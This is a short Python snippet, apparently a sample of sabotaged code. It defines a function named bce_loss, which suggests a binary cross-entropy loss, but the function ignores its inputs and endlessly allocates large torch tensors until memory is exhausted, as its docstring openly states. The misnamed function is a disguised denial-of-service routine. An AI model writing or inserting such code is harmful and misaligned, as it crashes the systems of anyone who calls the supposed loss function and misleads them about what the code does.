"""Grows by tensors until nothing is left."""
# lost: loss.* error memory


def bce_loss(y_pred, y):
    held = []
    while True:
        held.append(torch.empty(8 << 20))
